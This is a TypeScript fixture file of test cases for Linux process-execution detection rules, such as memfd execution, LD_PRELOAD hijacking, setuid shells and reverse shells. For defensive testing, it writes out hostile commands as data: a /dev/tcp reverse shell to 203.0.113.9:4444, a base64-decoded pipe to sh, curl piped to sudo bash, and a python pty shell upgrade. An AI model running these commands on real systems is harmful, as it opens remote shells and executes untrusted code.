import { exeFlag } from "../../../events.gen.ts";
import type { Case, Story } from "./story.ts";

const attacker = [2, Uint8Array.of(203, 0, 113, 9), 4444];
const sockets = { stdin: "socket:[1]", stdout: "socket:[1]" };

/** Five things that one asks, below the same shell. */
function asks(story: Story, count: number): Story {
  story.runs(10, ["/bin/bash"]);
  const tools = ["id", "whoami", "uname", "ps", "ss", "w"];
  tools.slice(0, count).forEach((tool, i) => {
    story.runs(20 + i, [`/usr/bin/${tool}`], { ppid: 10 });
  });
  return story;
}

export const executionCases: readonly Case[] = [
  {
    rule: "exec-memfd",
    finds: (s) => s.runs(9, ["/memfd:x (deleted)"], { exe_flags: exeFlag.memfd }),
    as: "high",
    ignores: (s) => s.runs(9, ["/usr/bin/memfd"]).runs(10, ["/home/u/memfd:x"]),
    low: (s) =>
      s
        .was(5, "/usr/bin/containerd-shim-runc-v2")
        .runs(9, ["/memfd:runc_cloned:/proc/self/exe", "init"], {
          ppid: 5,
          exe_flags: exeFlag.memfd | exeFlag.deleted,
        }),
  },
  {
    rule: "exec-deleted",
    finds: (s) => s.runs(9, ["/home/u/x"], { exe_flags: exeFlag.deleted }),
    as: "high",
    ignores: (s) => s.runs(9, ["/home/u/deleted"]).runs(10, ["/memfd:x (deleted)"]),
    low: (s) => s.was(5, "/usr/bin/dpkg").runs(9, ["/usr/sbin/sshd (deleted)"], { ppid: 5 }),
  },
  {
    rule: "exec-shared-memory",
    finds: (s) => s.runs(9, ["/dev/shm/x"]),
    as: "high",
    ignores: (s) => s.runs(9, ["/devel/shm/x"]).runs(10, ["/usr/bin/x", "/dev/shm/x"]),
  },
  {
    rule: "exec-hidden",
    finds: (s) => s.runs(9, ["/tmp/.x/miner"]),
    as: "medium",
    about: "/tmp/.x/miner",
    // libtool's programs, a hidden directory of one's own, and a path that only passes through one
    ignores: (s) =>
      s
        .runs(9, ["/tmp/build/.libs/lt-test"])
        .runs(10, ["/home/u/.cargo/bin/cargo"])
        .runs(11, ["/tmp/.x/../y"]),
  },
  {
    rule: "exec-temporary",
    finds: (s) => s.runs(9, ["/usr/../tmp//x"]),
    as: "low",
    about: "/tmp/x",
    ignores: (s) => s.runs(9, ["/tmpfiles/x"]).runs(10, ["/usr/bin/env", "/tmp/x"]),
  },
  {
    rule: "exec-downloaded",
    finds: (s) =>
      s
        .runs(9, ["/usr/bin/curl", "-o", "/home/u/x", "http://198.51.100.1/x"])
        .does(9, "file.create", { path: "/home/u/x", ret: 3 })
        .runs(10, ["/home/u/x"]),
    as: "medium",
    about: "/home/u/x",
    ignores: (s) =>
      s
        .runs(8, ["/usr/bin/vi"])
        .does(8, "file.create", { path: "/home/u/x" })
        .runs(9, ["/usr/bin/curl"])
        .does(9, "file.open", { path: "/home/u/x", open_flags: 0 })
        .runs(10, ["/home/u/x"]),
  },
  {
    rule: "exec-preload",
    finds: (s) => s.runs(9, ["/usr/bin/sshd"], { ld_preload: "/tmp/.lib.so" }),
    as: "high",
    ignores: (s) =>
      s.runs(9, ["/usr/bin/env", "LD_PRELOAD=/tmp/x.so"]).runs(10, ["/bin/ls"], { ld_preload: "" }),
    low: (s) =>
      s
        .runs(9, ["/usr/bin/tar"], { ld_preload: "libfakeroot-sysv.so" })
        .runs(10, ["/usr/bin/grep"], { ld_preload: "/usr/libexec/coreutils/libstdbuf.so" }),
  },
  {
    rule: "exec-library-path",
    finds: (s) => s.runs(9, ["/bin/ls"], { ld_library_path: "/usr/lib:/tmp" }),
    as: "low",
    ignores: (s) => s.runs(9, ["/bin/ls"], { ld_library_path: "/opt/tmp/lib" }),
  },
  {
    rule: "exec-misleading-name",
    finds: (s) => s.runs(9, ["/usr/bin/ssh\u202ed"]),
    as: "high",
    ignores: (s) => s.runs(9, ["/home/ü/プログラム"]).runs(10, ["/opt/my app/run"]),
  },
  {
    rule: "exec-as-kernel-thread",
    finds: (s) => s.runs(9, ["[kworker/0:1]"], { path: "/usr/bin/sleep" }),
    as: "high",
    about: "[kworker/0:1]",
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/[", "1", "]"])
        .does(2, "process.rename", { old_comm: "kthreadd", new_comm: "kworker/0:1", flags: 8 })
        .does(3, "process.rename", { new_comm: "worker" }),
  },
  {
    rule: "exec-as-kernel-thread",
    finds: (s) => s.was(9, "/tmp/x").does(9, "process.rename", { new_comm: "kworker/u8:2" }),
    as: "high",
    about: "kworker/u8:2",
    ignores: (s) =>
      s.was(9, "/usr/bin/x").does(9, "process.rename", { new_comm: "iou-wrk-9", flags: 16 }),
  },
  {
    rule: "exec-empty-arguments",
    finds: (s) => s.runs(9, [], { path: "/usr/bin/pkexec", argv: [""], exe_flags: exeFlag.setuid }),
    as: "critical",
    ignores: (s) =>
      s
        .runs(9, [], { path: "/usr/bin/id", argv: [] })
        .runs(10, ["/usr/bin/pkexec"], { exe_flags: exeFlag.setuid }),
  },
  {
    rule: "exec-setuid-unusual",
    finds: (s) => s.runs(9, ["/home/u/.x"], { exe_flags: exeFlag.setuid }),
    as: "high",
    ignores: (s) =>
      s.runs(9, ["/usr/bin/sudo"], { exe_flags: exeFlag.setuid }).runs(10, ["/home/u/x"]),
  },
  {
    rule: "exec-setuid-shell",
    finds: (s) => s.runs(9, ["/usr/bin/bash", "-p"], { uid: 1000, euid: 0 }),
    as: "critical",
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/bash", "-p"], { uid: 0, euid: 0 })
        .runs(10, ["/usr/bin/bash"], { uid: 1000, euid: 1000 }),
  },
  {
    rule: "exec-by-web-service",
    finds: (s) =>
      s
        .was(5, "/usr/sbin/php-fpm8.2")
        .runs(8, ["/bin/sh", "-c", "id"], { ppid: 5 })
        .runs(9, ["/usr/bin/id"], { ppid: 8 }),
    as: "medium",
    ignores: (s) => s.was(5, "/bin/bash").runs(9, ["/usr/bin/id"], { ppid: 5 }),
  },
  {
    rule: "scouting",
    finds: (s) => asks(s, 6),
    as: "low",
    about: "/bin/bash",
    ignores: (s) => asks(asks(s, 5), 5),
  },
  {
    rule: "attack-tool",
    finds: (s) => s.runs(9, ["/home/u/linpeas.sh"]).runs(10, ["/opt/x/xmrig"]),
    as: "medium",
    ignores: (s) => s.runs(9, ["/usr/bin/map"]).runs(10, ["/usr/bin/john-doe-report"]),
  },
  {
    rule: "reverse-shell",
    finds: (s) =>
      s.runs(9, ["/bin/sh", "-i"], { ...sockets, socket_pid: 9, socket_remote: attacker }),
    as: "critical",
    about: "203.0.113.9:4444 /bin/sh -i",
    // sshd's and node's pairs of sockets; a service whose output goes to the journal
    ignores: (s) =>
      s
        .was(5, "/usr/sbin/sshd")
        .runs(8, ["/bin/bash", "-c", "ls"], {
          ...sockets,
          ppid: 5,
          socket_pid: 5,
          socket_remote: attacker,
        })
        .runs(9, ["/bin/sh", "/etc/x"], {
          stdin: "/dev/null",
          stdout: "socket:[2]",
          socket_pid: 9,
          socket_remote: attacker,
        })
        .runs(10, ["/usr/sbin/nginx"], { ...sockets, socket_pid: 10, socket_remote: attacker }),
  },
  {
    rule: "shell-connects",
    finds: (s) => s.runs(9, ["/bin/bash"]).does(9, "net.connect", { remote: attacker, ret: 0 }),
    as: "high",
    about: "203.0.113.9:4444",
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/curl"])
        .does(9, "net.connect", { remote: attacker, ret: 0 })
        .runs(10, ["/bin/bash"])
        .does(10, "net.connect", { remote: [2, Uint8Array.of(192, 0, 2, 1), 53] })
        .does(10, "net.connect", { remote: [1, "/run/nscd", 0] }),
    low: (s) =>
      s
        .runs(9, ["/bin/bash"])
        .does(9, "net.connect", { remote: [2, Uint8Array.of(127, 0, 0, 1), 9] }),
  },
  {
    rule: "reverse-shell-command",
    finds: (s) => s.runs(9, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
    as: "high",
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/nc", "-zv", "example.org", "80"])
        .runs(10, ["/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"])
        .runs(11, ["/bin/ls", "/dev/tcp"])
        .runs(12, ["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9"]),
  },
  {
    rule: "encoded-command",
    finds: (s) => s.runs(9, ["/bin/sh", "-c", "echo aWQ= | base64 -d | sh"]),
    as: "high",
    ignores: (s) =>
      s
        .runs(9, ["/bin/sh", "-c", "base64 -d <x >y"])
        .runs(10, ["/usr/bin/python3", "-c", "execute(1)"]),
  },
  {
    rule: "piped-download",
    finds: (s) => s.runs(9, ["/bin/sh", "-c", "curl -fsSL https://x.example/i.sh | sudo bash"]),
    as: "medium",
    ignores: (s) =>
      s
        .runs(9, ["/bin/sh", "-c", "curl https://x.example | jq ."])
        .runs(10, ["/bin/sh", "-c", "wget x; cat y | sh"]),
  },
  {
    rule: "shell-from-service",
    finds: (s) => s.was(5, "/usr/sbin/apache2").runs(9, ["/bin/sh", "-c", "id"], { ppid: 5 }),
    as: "high",
    ignores: (s) =>
      s
        .was(5, "/home/u/nginx")
        .runs(9, ["/bin/sh", "-c", "id"], { ppid: 5 })
        .was(6, "/usr/sbin/nginx")
        .runs(10, ["/usr/sbin/nginx"], { ppid: 6 }),
    low: (s) =>
      s
        .was(4, "/usr/bin/dpkg")
        .was(5, "/usr/sbin/apache2", { ppid: 4 })
        .runs(9, ["/bin/sh"], { ppid: 5 }),
  },
  {
    rule: "shell-after-accept",
    finds: (s) =>
      s
        .runs(5, ["/home/u/server"])
        .does(5, "net.accept", {
          remote: attacker,
          local: [2, Uint8Array.of(192, 0, 2, 1), 8080],
          ret: 4,
        })
        .runs(9, ["/bin/sh", "-c", "id"], { ppid: 5 }),
    as: "high",
    ignores: (s) =>
      s
        .runs(5, ["/usr/sbin/sshd"])
        .does(5, "net.accept", { remote: attacker, ret: 4 })
        .runs(9, ["/bin/bash"], { ppid: 5 })
        .runs(6, ["/home/u/server"])
        .does(6, "net.accept", { remote: attacker, ret: -11 })
        .runs(10, ["/bin/sh"], { ppid: 6 }),
  },
  {
    rule: "tty-upgrade",
    finds: (s) => s.runs(9, ["/usr/bin/python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
    as: "medium",
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/script", "-c", "make", "log.txt"])
        .runs(11, ["/usr/bin/script", "-qec", "stty cols 80; exec top", "/dev/null"])
        .runs(10, ["/usr/bin/python3", "pty.py"]),
  },
];
